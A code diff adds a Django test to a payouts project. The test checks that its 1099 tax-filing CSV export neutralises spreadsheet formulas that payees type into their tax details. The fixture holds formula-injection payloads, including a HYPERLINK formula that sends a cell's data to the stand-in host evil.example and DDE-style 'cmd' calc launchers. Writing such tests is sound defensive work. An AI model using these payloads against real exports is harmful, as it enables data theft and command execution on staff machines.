@@ -10,6 +10,7 @@ from pypdf import PdfReader
 from cadence.kernel.money import Money
 from payouts.models import Payout
 from payouts.selectors.tax_forms import form_1099_for, form_1099_rows, threshold_for
+from payouts.services.accounts import tax_info_save
 from payouts.services.batches import payout_batch_run, payout_send
 from payouts.tests.helpers import confirmed_sale, payee_ready
 
@@ -94,3 +95,39 @@ def test_a_payees_own_statement_reads_only_their_payouts(settings, django_assert
     assert (row.user_id, row.total.minor) == ("usr_b", threshold * 5 * 4 // 10)
     assert form_1099_for(year=year, user_id="usr_small") is None
     assert form_1099_for(year=year - 1, user_id="usr_a") is None
+
+
+def test_the_filing_csv_writes_what_payees_typed_as_text_never_as_a_formula(
+    client, settings, django_user_model
+):
+    settings.STRIPE_API_BASE = ""
+    year = datetime.now(UTC).year
+    typed = {
+        "legal_name": '=HYPERLINK("https://evil.example/?"&E2,"Click for refund")',
+        "business_name": "+cmd|' /C calc'!A0",
+        "address_line": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "city": "-2+3+cmd|' /C calc'!A0",
+        "region": "=1+1",
+        "postal_code": "@1",
+    }
+    payee_ready("usr_mallory")
+    tax_info_save(user_id="usr_mallory", form="w9", **typed)
+    pay("usr_mallory", threshold_for(year).minor * 3, 1)
+    columns = {"legal_name": "recipient_name", "business_name": "business_name",
+               "address_line": "address", "city": "city", "region": "state",
+               "postal_code": "postal_code"}  # fmt: skip
+
+    out = io.StringIO()
+    call_command("export_1099", "--year", str(year), stdout=out, stderr=io.StringIO())
+    staff = django_user_model.objects.create_user(username="ops", password="x", is_staff=True)
+    staff.user_permissions.add(Permission.objects.get(codename="view_taxinfo"))
+    client.force_login(staff)
+    download = client.get(f"/earnings/1099/{year}.csv").content.decode()
+
+    for document in (out.getvalue(), download):
+        [row] = list(csv.DictReader(io.StringIO(document)))
+        assert {name: row[column] for name, column in columns.items()} == {
+            name: f"'{text}" for name, text in typed.items()
+        }
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+        assert row["tin"] == "123456789"
